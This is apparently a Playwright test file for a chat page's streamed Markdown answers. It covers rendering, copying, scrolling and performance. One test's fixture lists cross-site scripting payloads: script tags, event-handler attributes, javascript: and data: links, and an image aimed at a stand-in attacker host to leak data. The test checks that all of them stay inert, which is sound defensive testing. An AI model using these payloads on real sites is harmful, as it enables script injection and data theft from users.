"""The chat page's rendered answers in real Chromium: Markdown while it streams, XSS kept inert,
copy, and the newest line kept in view above the composer."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.browser import CHROMIUM, MISSING_CHROMIUM
from tests.test_browser import ANSWER, ERROR, SCREENSHOT, ask, record_for, tag

if not Path(CHROMIUM).exists():
    pytest.skip(MISSING_CHROMIUM, allow_module_level=True)

from playwright.sync_api import Page, expect

STATUS_DONE = "#status:has-text('Answer complete')"

CODE = "def double(x):\n    return x * 2"
MARKDOWN = f"""# Streaming in brief

Tokens leave **as soon as they exist**, with `flush` after each.

1. The model writes.
2. The relay forwards.

| hop | buffers |
|---|---|
| Function URL | no |

```python
{CODE}
```

See [the docs](https://example.com/docs) for more."""

# What a hostile answer could carry, each of which must stay text or be dropped.
XSS = """<script>window.__xss = "script"</script>
<img src=x onerror="window.__xss = 'img'">
<svg onload="window.__xss = 'svg'"></svg>
<iframe src="javascript:parent.__xss = 'iframe'"></iframe>
<details open ontoggle="window.__xss = 'details'"><summary>x</summary></details>
<a href="javascript:window.__xss = 'a'">raw link</a>
<style>body { display: none }</style>

[md link](javascript:window.__xss='md')

[data link](data:text/html,<script>parent.__xss='data'</script>)

![tracker](https://attacker.example/pixel.png?q=secret)

<p onclick="window.__xss = 'p'">click</p>

```"><img src=x onerror="window.__xss='lang'">
code
```"""


@pytest.fixture
def clipboard_page(browser):
    context = browser.new_context(viewport={"width": 960, "height": 720}, color_scheme="light")
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    context.set_default_timeout(15_000)
    yield context.new_page()
    context.close()


def echo(text: str, label: str, tps: int = 40) -> str:
    return f"[standin text=echo tps={tps} ttft=0 id={label}]\n{text}"


def test_markdown_renders_while_it_streams_code_block_and_all(page: Page, app, standin):
    label = tag()
    page.goto(app.url)
    ask(page, "Hi [standin tokens=12 tps=0]")
    expect(page.locator("#status")).to_contain_text("Answer complete")
    ask(page, echo(MARKDOWN + "\n\n" + "The answer goes on. " * 8, label, tps=15))
    answer = page.locator(ANSWER)
    # The heading is rendered while the stand-in is still sending: rendered as it streams.
    expect(answer.locator("h1")).to_have_text("Streaming in brief")
    assert record_for(standin, label).outcome == "streaming"
    # The code block, whose fence and body arrived split across 3-character deltas.
    expect(answer.locator(".code-block .code-lang")).to_have_text("python")
    expect(answer.locator(".code-block code")).to_have_text(CODE)
    SCREENSHOT.parent.mkdir(exist_ok=True)
    page.screenshot(path=SCREENSHOT)
    assert record_for(standin, label).outcome == "streaming", "the screenshot must show the page mid-stream"
    expect(page.locator("#status")).to_contain_text("Answer complete", timeout=30_000)
    assert answer.locator("strong").text_content() == "as soon as they exist"
    assert answer.locator("p code").first.text_content() == "flush"
    assert answer.locator("ol li").all_text_contents() == ["The model writes.", "The relay forwards."]
    assert answer.locator("td").all_text_contents() == ["Function URL", "no"]
    # Highlighted once its block was done.
    assert answer.locator(".code-block code .hljs-keyword").first.text_content() == "def"
    link = answer.locator("a", has_text="the docs")
    assert link.get_attribute("href") == "https://example.com/docs"
    assert link.get_attribute("target") == "_blank"
    assert link.get_attribute("rel") == "noopener noreferrer"


def test_an_answer_full_of_xss_stays_inert(page: Page, app):
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(app.url)
    ask(page, echo(XSS, tag(), tps=0))
    expect(page.locator("#status")).to_contain_text("Answer complete")
    answer = page.locator(ANSWER)
    assert page.evaluate("window.__xss") is None and not dialogs
    # Raw HTML shows as the text it is: nothing of it became an element.
    for element in ("script", "img", "svg", "iframe", "details", "style", "p[onclick]"):
        assert answer.locator(element).count() == 0, element
    assert "<script>" in answer.text_content()
    hrefs = answer.locator("a").evaluate_all("links => links.map((a) => a.getAttribute('href'))")
    assert not [href for href in hrefs if href and href.lower().startswith(("javascript:", "data:"))], hrefs
    # No image is fetched: a URL in the answer could carry the conversation away.
    assert answer.locator("a", has_text="tracker (image not loaded)").count() == 1
    # Clicking every link runs nothing either.
    for link in answer.locator("a").all():
        link.click(modifiers=["Control"])
    assert page.evaluate("window.__xss") is None and page.locator("body").is_visible()


def test_copy_puts_the_markdown_or_the_code_on_the_clipboard(clipboard_page: Page, app):
    page = clipboard_page
    page.goto(app.url)
    ask(page, echo(MARKDOWN, tag(), tps=0))
    expect(page.locator("#status")).to_contain_text("Answer complete")
    page.click(".turn:last-child .copy-code")
    expect(page.locator("#status")).to_have_text("Copied to the clipboard.")
    assert page.evaluate("navigator.clipboard.readText()") == CODE
    page.click(".turn:last-child .copy-answer")
    page.wait_for_function(
        "async (expected) => (await navigator.clipboard.readText()) === expected", arg=MARKDOWN
    )


def gap_above_composer(page: Page, selector: str) -> float:
    """How far the bottom of `selector` is above the composer's top (negative: hidden under it)."""
    return page.evaluate(
        f"""document.querySelector('footer').getBoundingClientRect().top
            - document.querySelector('{selector}').getBoundingClientRect().bottom"""
    )


def test_the_newest_line_stays_above_the_composer_until_the_reader_scrolls_away(page: Page, app, standin):
    label = tag()
    page.goto(app.url)
    ask(page, f"[standin tokens=600 tps=60 ttft=0 id={label}]")
    for words in (150, 250, 350):
        page.wait_for_function(f"document.querySelector('{ANSWER}').textContent.split(' ').length > {words}")
        # A frame for the render and its scroll, then the geometry.
        page.evaluate("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
        assert gap_above_composer(page, ANSWER) >= 0
    # The reader scrolls up to read: the page stops following, and offers the way back.
    page.mouse.wheel(0, -2000)
    expect(page.locator("#jump")).to_be_visible()
    # The wheel's scroll has settled before the position is taken.
    page.wait_for_function(
        "() => new Promise((done) => { const y = scrollY; setTimeout(() => done(scrollY === y), 300); })"
    )
    top = page.evaluate("scrollY")
    page.wait_for_function(f"document.querySelector('{ANSWER}').textContent.split(' ').length > 450")
    assert page.evaluate("scrollY") == top
    assert record_for(standin, label).outcome == "streaming"
    page.click("#jump")
    expect(page.locator("#jump")).to_be_hidden()
    page.evaluate("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
    assert gap_above_composer(page, ANSWER) >= 0


def test_an_error_after_a_long_answer_is_shown_above_the_composer(page: Page, app):
    page.goto(app.url)
    ask(page, "[standin tokens=400 tps=0 stream_error=modelStreamErrorException after=380]")
    expect(page.locator(ERROR)).to_contain_text("modelStreamErrorException")
    page.evaluate("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
    assert gap_above_composer(page, ERROR) >= 0


@pytest.mark.parametrize(("tokens", "tps"), [(10000, 0), (3000, 300)])
def test_rendering_a_long_answer_costs_little_per_token(page: Page, app, capsys, tokens, tps):
    # One paragraph with no break: the worst case, since its unfinished block is the whole answer.
    page.goto(app.url)
    ask(page, f"[standin tokens={tokens} tps={tps} ttft=0]")
    done = f"Answer complete: end_turn, {tokens} tokens."
    expect(page.locator("#status")).to_have_text(done, timeout=120_000)
    assert len(page.locator(ANSWER).text_content().split()) == tokens
    cost = page.evaluate("window.__render")
    # Drawn once a frame at most, never once a token.
    assert 0 < cost["renders"] < tokens
    with capsys.disabled():
        per_token = cost["ms"] / tokens * 1000
        pace = f"{tps} tok/s" if tps else "full speed"
        print(f"\nrender cost, {tokens} tokens at {pace}: {json.dumps(cost)}; {per_token:.1f} µs a token")
